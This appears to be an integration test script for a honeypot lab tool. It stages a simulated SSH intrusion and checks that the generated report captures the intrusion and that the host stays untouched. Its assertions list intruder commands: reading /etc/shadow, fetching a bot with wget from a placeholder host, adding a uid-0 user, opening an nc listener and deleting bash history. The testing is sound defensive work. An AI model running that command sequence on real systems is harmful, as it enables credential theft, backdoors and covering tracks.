#!/usr/bin/env bash
# summary: the main job end to end: apiary lab up, attack, report, save/restore, down; asserts the report.
#
# What `make demo` does, with assertions: the report names the intruder,
# the successful login, the commands typed, the bot's SHA-256, the
# outbound connections the limit blocked, the drop rule's alert (inline,
# "blocked", the exploit unanswered), scans and flow records with direction
# from the gateway's pipeline, the new uid-0 user, cron entry and listener;
# the host's own files are untouched; `lab down` leaves no namespace,
# process, mount or veth behind.  With Debian's chromium installed, the
# report is also opened headless and screenshotted.  About a minute.
set -uo pipefail
top=${APIARY_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
bin=${APIARY_BIN:-$top/build/asan/bin}
apiary=$bin/apiary
. "$top/tests/lib/netns.sh"
netns_require ip ethtool nsenter unshare capsh sshd sshpass ssh jq openssl sha256sum
[ -x "$apiary" ] || { echo "skip: $apiary is not built" >&2; exit 77; }
[ -r /sys/kernel/btf/vmlinux ] || { echo "skip: kernel without BTF (apiary-agent)" >&2; exit 77; }
grep -qw overlay /proc/filesystems || modprobe overlay 2>/dev/null
grep -qw overlay /proc/filesystems || { echo "skip: no overlayfs" >&2; exit 77; }

fail() { echo "FAIL: $*" >&2; exit 1; }
# The lab directory must not be under build/: the Makefile includes every
# '*.d' file found there, and the honeypot has an /etc/cron.d.
dir=$(mktemp -d /tmp/apl-test.XXXXXX) || fail "mktemp"
chmod 755 "$dir"
lab() { "$apiary" lab --dir "$dir" "$@"; }
cleanup() {
	local rc=$?
	trap - EXIT
	lab down >/dev/null 2>&1
	if [ -n "${KEEP_LAB:-}" ] || { [ $rc -ne 0 ] && [ $rc -ne 77 ] && [ -n "${KEEP_LAB_ON_FAIL:-}" ]; }; then
		echo "lab directory kept: $dir" >&2
	else
		rm -rf "$dir"
	fi
	exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

# --- the host's own files, before
# (/root/.bash_history is checked for the intruder's commands rather than
# by checksum: other tests' ssh sessions on the host legitimately add to it)
host_files=(/etc/passwd /etc/shadow /etc/group /etc/gshadow /etc/crontab
	/root/.ssh/authorized_keys /root/.ssh/known_hosts /etc/hostname)
host_state() {
	local f
	for f in "${host_files[@]}"; do
		if [ -e "$f" ]; then sha256sum "$f"; else echo "absent $f"; fi
	done
	ls -la --time-style=+%s /etc/cron.d /tmp/bot 2>&1 | grep -v '^total'
	hostname
}
host_state >"$dir/host.before"

# --- up
t0=$SECONDS
lab up --fresh >"$dir/up.log" 2>&1 || { tail -30 "$dir/up.log" >&2; fail "lab up"; }
lab status >"$dir/status.txt" 2>&1 || fail "lab status"
grep -q 'state: *up since' "$dir/status.txt" || fail "status does not say up: $(cat "$dir/status.txt")"
prefix=$(awk '/^name prefix:/ {print $3}' "$dir/status.txt")
[ -n "$prefix" ] || fail "status names no prefix"
nslist=$(ip netns list)
for ns in inet gw hp1 log; do
	grep -q "^$prefix$ns\b" <<<"$nslist" || fail "namespace $prefix$ns missing"
done
# the honeypot: own PID namespace (sshd is not pid 1's sibling on the host),
# no host devices, a dropped bounding set, its own hostname
hp=$(cat "$dir/run/hp1.pid")
[ "$(readlink /proc/$hp/ns/pid)" != "$(readlink /proc/self/ns/pid)" ] || fail "hp1 shares the host's PID namespace"
[ "$(readlink /proc/$hp/ns/mnt)" != "$(readlink /proc/self/ns/mnt)" ] || fail "hp1 shares the host's mount namespace"
nsenter -t "$hp" -m -p -u -n -- /bin/sh -c 'hostname; ls /dev; grep CapBnd /proc/1/status; ps -e -o comm=' >"$dir/hp-inside.txt" 2>&1
grep -qx hp1 "$dir/hp-inside.txt" || fail "hp1's hostname: $(cat "$dir/hp-inside.txt")"
grep -qE '^(vda|sda|nvme|mem|kmsg)' "$dir/hp-inside.txt" && fail "host devices visible in hp1"
bnd=$(awk '/CapBnd/ {print $2}' "$dir/hp-inside.txt")
caps=$(capsh --decode="$bnd")
grep -qE 'cap_sys_module|cap_sys_admin|cap_mknod|cap_sys_rawio|cap_dac_read_search|cap_bpf' <<<"$caps" &&
    fail "hp1 keeps dangerous capabilities: $caps"
grep -q 'apiary-agent' "$dir/hp-inside.txt" && fail "the agent is visible inside the honeypot"
grep -q '^sshd' "$dir/hp-inside.txt" || fail "no sshd in hp1: $(cat "$dir/hp-inside.txt")"
# the lab directory (PKI keys, logs) and apiary's tree are hidden from the intruder
leak=$(nsenter -t "$hp" -m -p -u -n -- /bin/sh -c "ls -A '$dir' '$dir/pki' '$top/lib/lab' /root/.ssh 2>/dev/null")
[ -z "$leak" ] || fail "the honeypot sees host files: $leak"
# the log server only on 6514: the gateway fences the rest
"$apiary" lab --dir "$dir" status >/dev/null
ip netns exec "${prefix}hp1" timeout 3 bash -c 'exec 3<>/dev/tcp/192.0.2.2/22' 2>/dev/null &&
    fail "the honeypot reaches the log server on port 22"
echo "up in $((SECONDS - t0)) s"

# --- attack
t1=$SECONDS
lab attack >"$dir/attack.log" 2>&1 || { tail -40 "$dir/attack.log" >&2; fail "lab attack"; }
grep -q 'root / 123456: accepted' "$dir/attack.log" || fail "the right password was not accepted"
[ "$(grep -c ': refused' "$dir/attack.log")" -eq 2 ] || fail "expected two refused guesses"
grep -q 'uid=0(root)' "$dir/attack/session.txt" || fail "the session did not run"
echo "attack in $((SECONDS - t1)) s"

# --- report
lab report -o "$dir/report.html" >"$dir/summary.txt" 2>"$dir/report.log" ||
    { tail -30 "$dir/report.log" >&2; fail "lab report"; }
[ -s "$dir/report.html" ] || fail "no report.html"
grep -q "report: .*report.html" "$dir/summary.txt" || fail "the report's path is not printed"
summary=$dir/summary.txt
html=$dir/report.html
eve=$dir/gw/eve.json
diffeve=$dir/diff/eve.json

# the intruder and the successful login
grep -q '203.0.113.66' "$summary" || fail "summary lacks the intruder's address"
grep -q '203.0.113.66' "$html" || fail "report lacks the intruder's address"
grep -Eq 'sessions? +[1-9]' "$summary" || fail "summary shows no session: $(cat "$summary")"
grep -Eq 'session .*from 203\.0\.113\.66, uid 0' "$summary" || fail "summary lacks the root session from the intruder"
grep -q 'login succeeded: 203\.0\.113\.66:[0-9]* -&gt; 203\.0\.113\.10:22' "$html" || fail "report lacks the successful login"
# the commands typed (recorded by the agent, shipped to the log server)
for c in 'uname -a' 'cat /etc/shadow' 'wget -q http://198.51.100.200/bot' 'chmod +x bot' './bot' \
    'useradd -o -u 0' 'nc -lk 31337' 'rm -f /root/.bash_history'; do
	grep -qF -- "$c" "$summary" || fail "summary lacks the command '$c'"
	grep -qF -- "$c" "$html" || fail "report lacks the command '$c'"
done
# the bot's SHA-256, computed from the bot that was built
bot_sha=$(sha256sum "$dir/www/bot" | cut -d' ' -f1)
grep -q "$bot_sha" "$html" || fail "report lacks the bot's SHA-256 $bot_sha"
# outbound connections blocked by the limit (tcp 20/minute; the bot tries 40)
jq -e -s '[.[] | select(.event_type=="limit" and .limit.protocol=="tcp" and .src_ip=="203.0.113.10")] | length >= 1' \
    "$eve" >/dev/null || fail "no tcp limit event in eve.json"
jq -e -s '[.[] | select(.event_type=="drop" and .drop.reason=="limit" and .dest_port==6667)] | length >= 5' \
    "$eve" >/dev/null || fail "fewer than 5 limit drops of the bot's connections in eve.json"
grep -Eq 'data control +[1-9][0-9]* limit events' "$summary" || fail "summary shows no limit events"
# the drop rule: the gateway's IDS stage (inspect on + ids-rules) dropped the
# bot's exploit inline: the bot got no answer, the alert says "blocked"
grep -q 'IDS: inline' "$dir/up.log" || fail "lab up did not configure the inline IDS: $(grep IDS "$dir/up.log")"
grep -q 'bot: exploit sent' "$dir/attack/session.txt" || fail "the bot did not send its exploit"
grep -q 'bot: exploit: no answer' "$dir/attack/session.txt" || fail "the exploit was answered: not dropped inline"
jq -e -s 'any(.[]; .event_type=="alert" and .alert.signature_id==9000001 and .alert.action=="blocked")' \
    "$eve" >/dev/null || fail "no blocked alert of the drop rule (sid 9000001) in $eve"
jq -e -s 'all(.[]; .event_type!="alert" or .alert.signature_id!=9000001 or .alert.action=="blocked")' \
    "$eve" >/dev/null || fail "an alert of the drop rule that is not blocked"
grep -q 'APIARY-LAB outbound shellcode' "$html" || fail "report lacks the drop rule's alert"
# the scan, from the gateway's own pipeline (no offline pass)
jq -e -s 'any(.[]; .event_type=="scan" and .src_ip=="203.0.113.66")' "$eve" >/dev/null ||
    fail "no scan event of the intruder in the gateway's eve.json"
[ -e "$dir/offline" ] && fail "an offline pass ran"
grep -Eq 'scans +[1-9]' "$summary" || fail "summary shows no scan"
# the gateway's live sessions (tcpflow files): the bot's download from the
# outside web server ends with the bot's bytes
dl=$dir/gw/sessions/198.051.100.200.00080-203.000.113.010.*
dl_ok=
for f in $dl; do
	[ -f "$f" ] && tail -c "$(stat -c %s "$dir/www/bot")" "$f" | cmp -s - "$dir/www/bot" && dl_ok=1
done
[ -n "$dl_ok" ] || fail "no session file of the bot's download with its bytes: $(ls "$dir/gw/sessions" | head)"
jq -e -s 'any(.[]; .src_ip=="198.51.100.200" and .src_port==80 and .bytes > 0)' "$dir/gw/sessions/sessions.json" >/dev/null ||
    fail "sessions.json lacks the download"
# flow records: the pipeline's only, one per connection, with direction
jq -c 'select(.event_type=="flow")' "$eve" >"$dir/flows.json"
[ -s "$dir/flows.json" ] || fail "no flow records"
jq -e -s 'all(.[]; .community_id != null and .in_iface == null)' "$dir/flows.json" >/dev/null ||
    fail "flow records from data control besides the pipeline's"
jq -e -s "any(.[]; .direction==\"inbound\" and .src_ip==\"203.0.113.66\" and .dest_port==22)" "$dir/flows.json" >/dev/null ||
    fail "the intruder's ssh connection is not an inbound flow"
jq -e -s 'any(.[]; .direction=="outbound" and .src_ip=="203.0.113.10" and .dest_port==6667)' "$dir/flows.json" >/dev/null ||
    fail "the bot's connections are not outbound flows"
# (a gateway restart in 'lab report' flushes flows: one record per connection
# and run, so a 5-tuple may repeat only with a later start time)
dups=$(jq -r '[.proto, .src_ip, .src_port, .dest_ip, .dest_port, .flow.start] | @tsv' "$dir/flows.json" | sort | uniq -d | wc -l)
[ "$dups" = 0 ] || fail "$dups connections with more than one flow record"
# the snapshot diff: new uid-0 user, cron entry, listener
jq -e -s 'map(.snapshot? // empty | tostring) | join("\n") | test("sysadm")' "$diffeve" >/dev/null ||
    fail "diff EVE lacks the new user sysadm"
grep -q 'new-uid0-user' "$dir/diff/diff.txt" || fail "diff lacks the new uid-0 user"
grep -q '/etc/cron.d/sysupdate' "$dir/diff/diff.txt" || fail "diff lacks the cron entry"
grep -q '31337.*new-listener' "$dir/diff/diff.txt" || fail "diff lacks the listener on 31337"
jq -e -s 'any(.[]; .snapshot.tag=="new-listener" and (.snapshot.what|test(":31337$")))' "$diffeve" >/dev/null ||
    fail "diff EVE lacks the listener on 31337"
jq -e -s 'any(.[]; .snapshot.category=="cron" and (.snapshot.what|test("/etc/cron.d/sysupdate")))' "$diffeve" >/dev/null ||
    fail "diff EVE lacks the cron entry"
# in the report's host-changes table (not only in the commands typed)
for s in 'sysadm<' 'tcp 0.0.0.0:31337' '/etc/cron.d/sysupdate: \*/5'; do
	grep -q -- "$s" "$html" || fail "report lacks '$s' from the diff"
done
grep -q '<svg' "$html" || fail "report has no inline SVG chart"
grep -Eiq '<(script|link|img)[^>]+(src|href)="?https?:' "$html" && fail "report loads external resources"

# --- save / restore (the honeypot's disk is a directory)
lab save attacked >/dev/null 2>&1 || fail "lab save"
[ -f "$dir/saves/attacked/upper/etc/cron.d/sysupdate" ] || fail "the save lacks the intruder's cron entry"
lab restore clean >/dev/null 2>&1 && fail "restore was allowed while the lab is up"

# --- down: nothing left behind
pids=$(for ns in inet gw hp1 log; do ip netns pids "$prefix$ns" 2>/dev/null; done)
[ -n "$pids" ] || fail "no processes found in the lab's namespaces"
lab down >"$dir/down.log" 2>&1 || { cat "$dir/down.log" >&2; fail "lab down"; }
nslist=$(ip netns list)
grep -q "^$prefix" <<<"$nslist" && fail "namespaces left: $(grep "^$prefix" <<<"$nslist")"
for p in $pids; do
	st=$(cat "/proc/$p/stat" 2>/dev/null) || continue
	st=${st##*) }	# a zombie holds nothing
	[ "${st%% *}" != Z ] && fail "process $p ($(cat /proc/$p/comm 2>/dev/null)) survived lab down"
done
# (this lab's mounts name its directory; "apiary-hp1" alone would also
# match a lab that another test runs at the same time)
left=$(grep -l -F -e "$dir/" /proc/[0-9]*/mountinfo 2>/dev/null)
[ -z "$left" ] || fail "a mount of the lab is left: $left"
links=$(ip -o link)
grep -Eq ': (wan0|logn0)[@:]' <<<"$links" &&
    fail "a veth of the lab is left on the host"
st=$(lab status 2>&1); grep -q 'state: *down' <<<"$st" || fail "status after down: $st"
# a second down is harmless
lab down >/dev/null 2>&1 || fail "a second lab down failed"

# restore works when down: the clean disk has no trace of the intrusion
lab restore clean >/dev/null 2>&1 || fail "lab restore clean"
[ -e "$dir/hp1/state/upper/etc/cron.d/sysupdate" ] && fail "restore clean kept the cron entry"
lab restore attacked >/dev/null 2>&1 || fail "lab restore attacked"
[ -f "$dir/hp1/state/upper/etc/cron.d/sysupdate" ] || fail "restore attacked lacks the cron entry"

# --- the host's own files, after
host_state >"$dir/host.after"
diff "$dir/host.before" "$dir/host.after" >&2 || fail "the intrusion changed the host's own files"
grep -qs -e sysupdate -e 'nc -lk 31337' -e 'useradd -o -u 0' /root/.bash_history &&
    fail "the intruder's commands are in the host's /root/.bash_history"
grep -q '^sysadm:' /etc/passwd && fail "the intruder's user is in the host's /etc/passwd"
[ -e /etc/cron.d/sysupdate ] && fail "the intruder's cron entry is on the host"

# --- the report in a browser (Debian's chromium), when installed
chrome=$(command -v chromium || command -v chromium-browser || true)
if [ -n "$chrome" ]; then
	prof=$(mktemp -d)
	timeout 90 "$chrome" --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
	    --disable-background-networking --disable-component-update --disable-sync \
	    --user-data-dir="$prof" --window-size=1280,2400 --screenshot="$dir/report.png" \
	    --enable-logging=stderr --v=0 \
	    "file://$html" >"$dir/chromium.log" 2>&1
	rc=$?
	rm -rf "$prof"
	[ $rc -eq 0 ] || { tail -20 "$dir/chromium.log" >&2; fail "chromium exited with $rc"; }
	[ -s "$dir/report.png" ] || fail "chromium wrote no screenshot"
	# with --enable-logging, the page's console (script errors) is in the log
	grep -Ei 'CONSOLE.*(Uncaught|Error)|Refused to load|net::ERR_' "$dir/chromium.log" &&
	    fail "errors while chromium rendered the report"
	[ "$(head -c 8 "$dir/report.png" | od -An -tx1 | tr -d ' \n')" = 89504e470d0a1a0a ] || fail "the screenshot is not a PNG"
	[ "$(stat -c %s "$dir/report.png")" -gt 20000 ] || fail "the screenshot is nearly empty"
	[ -n "${LAB_SCREENSHOT:-}" ] && cp "$dir/report.png" "$LAB_SCREENSHOT"
	echo "chromium: report opened, screenshot $(stat -c %s "$dir/report.png") bytes"
else
	echo "NOTE: chromium is not installed: the browser check was not run (apt-get install chromium)" >&2
fi
echo "lab demo: up, attack, report, save/restore, down in $((SECONDS - t0)) s"
